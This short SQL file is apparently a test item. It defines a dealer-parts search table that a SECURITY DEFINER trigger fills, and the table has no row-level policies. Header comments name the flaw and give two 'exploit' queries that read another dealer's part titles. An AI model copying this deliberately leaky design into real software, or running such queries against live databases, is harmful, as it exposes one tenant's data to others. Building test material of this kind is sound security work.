-- A login searches the parts of every dealer, as the search table that a trigger fills has no policies.
-- about: search_docs, index_item, items
-- as: hf_partsbin_app
-- exploit: SET parts.dealer_id = 'aaaaaaaa-0000-4000-8000-000000000001';
-- exploit: SELECT headline FROM parts.search_docs WHERE words @@ to_tsquery('simple', 'filter');
-- shows: Road-secret filter
CREATE TABLE parts.search_docs (
  dealer_id uuid NOT NULL,
  part_no text NOT NULL,
  headline text NOT NULL,
  words tsvector GENERATED ALWAYS AS (to_tsvector('simple', headline)) STORED,
  PRIMARY KEY (dealer_id, part_no)
);
CREATE INDEX search_docs_words ON parts.search_docs USING gin (words);
CREATE FUNCTION parts.index_item() RETURNS trigger LANGUAGE plpgsql SECURITY DEFINER
SET search_path = parts, pg_temp AS $$
BEGIN
  INSERT INTO parts.search_docs (dealer_id, part_no, headline)
    VALUES (NEW.dealer_id, NEW.part_no, NEW.title)
    ON CONFLICT (dealer_id, part_no) DO UPDATE SET headline = EXCLUDED.headline;
  RETURN NULL;
END $$;
REVOKE EXECUTE ON FUNCTION parts.index_item() FROM PUBLIC;
CREATE TRIGGER items_index AFTER INSERT OR UPDATE ON parts.items
  FOR EACH ROW EXECUTE FUNCTION parts.index_item();
GRANT SELECT ON parts.search_docs TO hf_partsbin_app;
